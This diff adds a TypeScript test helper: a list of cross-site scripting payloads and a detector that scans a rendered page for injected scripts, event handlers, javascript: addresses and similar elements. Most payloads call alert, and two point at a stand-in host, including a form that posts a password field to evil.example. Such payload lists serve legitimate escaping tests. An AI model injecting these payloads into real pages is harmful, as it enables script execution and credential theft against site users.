@@ -1,0 +1,65 @@
+/** Texts that want to become markup, attributes, styles, addresses or scripts; each calls `alert` when it succeeds. */
+export const PAYLOADS = [
+  '<script>alert(1)</script>',
+  '</script><script>alert(2)</script>',
+  '</title><script>alert(3)</script>',
+  '</textarea><script>alert(4)</script>',
+  '</style><script>alert(5)</script>',
+  '<!--<script>alert(6)//-->',
+  '<img src=x onerror=alert(7)>',
+  '"><img src=x onerror=alert(8)>',
+  "'><img src=x onerror='alert(9)'>",
+  '<svg onload=alert(10)>',
+  '<svg><script href="data:,alert(11)"></script></svg>',
+  '<svg><animate onbegin=alert(12) attributeName=x dur=1s>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>',
+  '<iframe srcdoc="<script>parent.alert(14)</script>"></iframe>',
+  '<iframe src="javascript:parent.alert(15)"></iframe>',
+  '<object data="data:text/html,<script>alert(16)</script>"></object>',
+  '<embed src="javascript:alert(17)">',
+  '<a href="javascript:alert(18)">x</a>',
+  'javascript:alert(19)',
+  'JaVaScRiPt:alert(20)//https://shop.example/',
+  '\u0001java\tscript:alert(21)',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgyMik8L3NjcmlwdD4=',
+  '" onmouseover="alert(23)" x="',
+  "' autofocus onfocus='alert(24)",
+  '" style="position:fixed;inset:0;background:url(javascript:alert(25))',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(27)">',
+  '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(28)>',
+  '<template shadowrootmode=open><script>alert(29)</script></template>',
+  '{"__html":"<img src=x onerror=alert(30)>"}',
+  '{{constructor.constructor("alert(31)")()}}${alert(31)}',
+  '\u2028</script\u2029><script>alert(32)</script>',
+] as const;
+
+/** What in a document came from a text and should have stayed one. Runs in a page as well: it uses nothing from outside. */
+export function injectedInto(document: Document): string[] {
+  const found: string[] = [];
+  const say = (element: Element) => found.push(element.outerHTML.slice(0, 200));
+  for (const script of document.querySelectorAll('script')) {
+    const isData = /^application\/(ld\+)?json$/.test(script.type);
+    if (!isData && !/^\/(assets|payment\/sandbox)\//.test(script.getAttribute('src') ?? '')) say(script);
+  }
+  document
+    .querySelectorAll('iframe, object, embed, base, math, template, meta[http-equiv=refresh]')
+    .forEach(say);
+  for (const element of document.querySelectorAll('*')) {
+    for (const { name, value } of element.attributes) {
+      if (name.startsWith('on')) say(element);
+      const isAddress = ['href', 'src', 'action', 'formaction', 'data', 'poster', 'xlink:href'].includes(
+        name,
+      );
+      // As a browser reads it: without control signs.
+      // eslint-disable-next-line no-control-regex
+      // React's own, for forms whose action is a function.
+      if (value.startsWith("javascript:throw new Error('A React form was")) continue;
+      if (isAddress && /^(javascript|data:text|vbscript)/i.test(value.replace(/[\u0000-\u0020]/g, '')))
+        say(element);
+      if (name === 'action' && value.includes('evil')) say(element);
+      if (name === 'style' && /url\(|fixed/.test(value)) say(element);
+    }
+  }
+  return found;
+}
